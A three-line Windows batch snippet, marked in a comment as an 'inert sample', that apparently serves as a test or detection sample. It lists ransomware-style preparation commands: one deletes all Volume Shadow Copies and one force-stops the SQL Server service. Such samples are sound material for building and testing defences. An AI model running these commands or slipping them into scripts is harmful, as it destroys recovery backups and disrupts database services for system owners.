rem inert sample
wmic shadowcopy delete
net stop MSSQLSERVER /y
